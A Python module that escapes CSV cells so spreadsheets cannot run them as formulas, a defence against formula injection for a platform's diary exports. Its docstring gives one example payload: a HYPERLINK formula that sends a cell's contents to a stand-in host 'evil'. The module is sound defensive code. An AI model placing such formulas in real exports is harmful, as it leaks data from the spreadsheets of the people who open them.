"""CSV cells that a spreadsheet cannot run as a formula (CSV/formula injection, OWASP).

Excel, LibreOffice and Google Sheets evaluate a cell that begins with `=`, `+`, `-` or `@` (and
some of them one that begins with a tab or a carriage return) as a formula: a complaint's subject
`=HYPERLINK("http://evil/?"&A1,"klicka")` in the diary export would run in the registrator's
spreadsheet. Every CSV the platform writes goes through `safe_cell` / `writer`, which put a single
quote before such a cell: the spreadsheet shows the text, and a reader of the raw file sees it too.
Numbers stay numbers: a negative amount (`-120.00`) is written as is.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[+-]?\d+(\.\d+)?$")


def safe_cell(value: Any) -> Any:
    """The cell as a spreadsheet should show it: text beginning with a formula character gets a
    leading `'`; other values (numbers, empty, ordinary text) are returned unchanged."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS) or _NUMBER.match(value):
        return value
    return "'" + value


class SafeWriter:
    """`csv.writer` whose every row is passed through `safe_cell`."""

    def __init__(self, out: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: Any, **kwargs: Any) -> SafeWriter:
    return SafeWriter(out, **kwargs)
